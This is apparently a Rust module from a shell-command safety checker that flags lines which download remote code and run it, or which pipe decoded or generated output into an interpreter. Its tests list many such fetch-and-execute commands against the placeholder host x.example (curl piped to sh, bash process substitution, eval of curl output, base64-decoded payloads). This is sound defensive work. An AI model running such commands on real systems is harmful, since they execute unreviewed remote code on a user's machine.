//! Code that nobody can have read before it runs: what a line fetches from another machine and runs at once, and what it
//! has one program make for an interpreter. Who agrees to such a line by Enter does not know to what.
//!
//! It goes by the effects of the line's commands. Where the machine's packages come from was chosen before, and is not meant.

use super::effect::{ANYTHING, Effect, Kind, NAMED_REMOTE};
use super::reader::Each;
use super::role::url_host;

/// Where such code comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Unread {
    /// From this host.
    Fetched(String),
    /// From this program of the line's, in whatever letters.
    Made(String),
}

impl Unread {
    /// For people: a fragment after "it".
    pub(super) fn told(&self) -> String {
        match self {
            Self::Fetched(host) if host == ANYTHING => "runs code from the network that nobody has read".to_owned(),
            Self::Fetched(host) => format!("runs code from {host} that nobody has read"),
            Self::Made(program) => format!("runs what {program} puts out, which nobody has read"),
        }
    }

    /// The word that agrees to it.
    pub(super) fn word(&self) -> &str {
        let (Self::Fetched(name) | Self::Made(name)) = self;
        if name == ANYTHING || name.is_empty() || name.contains(char::is_whitespace) { "yes" } else { name }
    }
}

/// Servers that the person or their system has chosen: such a name stands for no address of the line's.
const CHOSEN: &[&str] = &[
    NAMED_REMOTE,
    "packages",
    "the package archive",
    "the package index",
    "the submodules' remotes",
    "where toolchains come from",
];

/// What interpreters run that are given nothing else.
const FROM_INPUT: &[&str] = &[
    "an interactive shell",
    "interactive code",
    "its input",
    "lines for later",
    "file:-",
    "file:/dev/stdin",
    "file:/dev/fd/0",
];

/// Interpreters that are in no table of programs: what they are fed they run, like the others.
const INTERPRETERS: &[&str] =
    &["csh", "elvish", "fish", "julia", "lua", "nu", "pwsh", "Rscript", "tclsh", "tcsh", "xonsh"];

/// What is code of somebody's own, whatever is fetched beside it.
const OWN_CODE: &[&str] = &["program:", "env:", "function:", "alias:"];

/// Programs that put out what stands in the line, or in a file, as it is; or nothing.
const AS_IT_STANDS: &[&str] = &["cat", "cd", "echo", "printf"];

/// The first such code among the commands of a line.
pub(super) fn unread(each: &[Each]) -> Option<Unread> {
    each.iter().enumerate().find_map(|(at, one)| {
        let (before, feeding) = (&each[..at], &each[one.fed_from.unwrap_or(at).min(at)..at]);
        one.effects.iter().find_map(|effect| match effect.kind {
            Kind::Opaque if !OWN_CODE.iter().any(|own| effect.target.starts_with(own)) => of_an_address(effect)
                .or_else(|| fetched_by(effect, &one.effects))
                .or_else(|| piped(effect, feeding).filter(|_| FROM_INPUT.contains(&effect.target.as_str())))
                .or_else(|| kept_first(effect, before)),
            Kind::Unknown if is_put_together(effect) => {
                fetched_by(effect, &one.effects).or_else(|| piped(effect, feeding))
            }
            Kind::Unknown if is_interpreter(effect) => piped(effect, feeding),
            _ => None,
        })
    })
}

/// A text, or a name of a program, that is only known while the line runs.
fn is_put_together(effect: &Effect) -> bool {
    let target = effect.target.as_str();
    target == "code that is put together" || target.starts_with("the code ") || target.starts_with("the command ")
}

fn is_interpreter(effect: &Effect) -> bool {
    let name = effect.program.as_deref().and_then(|program| program.rsplit('/').next());
    name.is_some_and(|name| INTERPRETERS.contains(&name))
}

/// `pip install https://…`
fn of_an_address(effect: &Effect) -> Option<Unread> {
    let address = effect.target.contains("://") && !effect.target.starts_with("code:");
    address.then(|| Unread::Fetched(url_host(&effect.target).to_owned()))
}

/// `bash <(curl …)`, `sh -c "$(curl …)"`: what fetches is another program than what runs it, in the same command.
fn fetched_by(effect: &Effect, effects: &[Effect]) -> Option<Unread> {
    let fetched = effects.iter().find(|other| is_address(other) && other.program != effect.program)?;
    Some(Unread::Fetched(fetched.target.clone()))
}

/// `curl … | sh`, `base64 -d code | sh`
fn piped(effect: &Effect, feeding: &[Each]) -> Option<Unread> {
    let fetched = feeding.iter().find_map(|one| fetched_by(effect, &one.effects));
    let makes = |one: &&Each| !one.programs.first().is_some_and(|name| AS_IT_STANDS.contains(&name.as_str()));
    fetched.or_else(|| {
        let made = feeding.iter().rev().filter(|one| !one.programs.is_empty()).find(makes)?;
        made.programs.first().cloned().map(Unread::Made)
    })
}

/// `curl -o it … && sh it`, `git clone … && cd it && make`, `curl … | tar -xz && it/configure`
fn kept_first(effect: &Effect, before: &[Each]) -> Option<Unread> {
    let keeps = |one: &Each| one.effects.iter().any(|other| matches!(other.kind, Kind::WriteNew | Kind::WriteOver));
    before.iter().enumerate().filter(|(_, one)| keeps(one)).find_map(|(at, one)| {
        let feeding = &before[one.fed_from.unwrap_or(at).min(at)..=at];
        feeding.iter().find_map(|one| fetched_by(effect, &one.effects))
    })
}

fn is_address(effect: &Effect) -> bool {
    effect.kind == Kind::Net && !CHOSEN.contains(&effect.target.as_str())
}

#[cfg(test)]
mod tests {
    use super::super::tests::machine;
    use super::*;
    use crate::line::{self, Dialect, Line};
    use crate::policy::facts::Look;
    use crate::policy::reader::Reader;

    fn told(text: &str, dialect: Dialect) -> Option<String> {
        let line = line::parse(&Line::new(text, dialect));
        let facts = machine(&[&line]);
        let look = Look::new(&facts);
        let mut reader = Reader::new(&look, dialect);
        reader.line(&line);
        unread(&reader.each).map(|found| found.told())
    }

    #[test]
    fn what_is_fetched_and_run_is_seen() {
        for line in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example/a | sudo bash",
            "curl https://x.example/a | base64 -d | sh",
            "curl https://x.example/a | tee a | bash -s -- --yes",
            "curl https://x.example/a | python3 -",
            "curl https://x.example/a | (cd /tmp; sh)",
            "cd folder && curl https://x.example/a | sh",
            "bash -c 'curl x.example | sh'",
            "bash <(curl -s https://x.example/a)",
            "bash < <(curl -s https://x.example/a)",
            "source <(curl https://x.example/a)",
            "sh -c \"$(curl -fsSL https://x.example/a)\"",
            "eval \"$(curl https://x.example/a)\"",
            "$(curl https://x.example/a)",
            "bash <<< \"$(curl https://x.example/a)\"",
            "curl https://x.example/a | while read -r line; do eval \"$line\"; done",
            "curl https://x.example/a | xargs -I{} sh -c '{}'",
            "curl https://x.example/a -o new.sh && sh new.sh",
            "curl https://x.example/a > new.sh; chmod +x new.sh; ./new.sh",
            "wget https://x.example/a.sh && bash a.sh",
            "curl https://x.example/a | tee a; bash a",
            "curl https://x.example/a | tar -xz && cd a && ./configure",
            "curl https://x.example/a | fish",
            "curl https://x.example/a | at now",
            "git clone https://x.example/new && cd new && make",
            "pip install git+https://x.example/a",
        ] {
            assert_eq!(
                told(line, Dialect::Bash).as_deref(),
                Some("runs code from x.example that nobody has read"),
                "{line}"
            );
        }
        let unnamed = told("curl \"$address\" | sh", Dialect::Bash);
        assert_eq!(unnamed.as_deref(), Some("runs code from the network that nobody has read"));
        let in_fish = told("curl https://x.example/a | source", Dialect::Fish);
        assert_eq!(in_fish.as_deref(), Some("runs code from x.example that nobody has read"));
    }

    #[test]
    fn what_another_program_makes_is_seen() {
        for (line, program) in [
            ("echo Y3VybA== | base64 -d | sh", "base64"),
            ("sed s/^/git/ a | bash", "sed"),
            ("cat a | rev | tr a b | sh -s", "tr"),
            ("nobody-knows https://x.example/a | sh", "nobody-knows"),
            ("base64 -d a | nu", "base64"),
        ] {
            let expected = format!("runs what {program} puts out, which nobody has read");
            assert_eq!(told(line, Dialect::Bash), Some(expected), "{line}");
        }
    }

    #[test]
    fn what_can_be_read_first_is_no_such_code() {
        for line in [
            "curl -fsSL https://x.example/i.sh -o new.sh",
            "curl https://x.example/a | jq .",
            "curl https://x.example/a | python3 -m json.tool",
            "curl https://x.example/a | tool-of-mine",
            "curl -f http://localhost:3000/health && npm test",
            "wget -qO- https://x.example/a.tar.gz | tar -xz",
            "pip install flask",
            "npm install && npm test",
            "sudo apt update && sudo apt install -y jq",
            "git pull && make",
            "npx create-react-app new",
            "cat a.sh | sh",
            "cat a.fish | fish",
            "fish a.fish",
            "echo make | at now",
            "make | tee log; ./a",
            "echo 'print(1)' | python3",
            "printf '%s' code | bash",
            "cat a.sh | (cd folder; bash)",
            "ssh host.example ls",
            "make; curl https://x.example/a",
            "sh a.sh",
            "bash",
            "python3 < a.py",
            "HTTPS_PROXY=x curl https://x.example/a",
        ] {
            assert_eq!(told(line, Dialect::Bash), None, "{line}");
        }
    }

    #[test]
    fn the_word_that_agrees_can_be_typed() {
        let word = |name: &str| Unread::Fetched(name.to_owned()).word().to_owned();
        assert_eq!(
            (word("x.example").as_str(), word("?").as_str(), word("what it finds").as_str()),
            ("x.example", "yes", "yes")
        );
    }
}
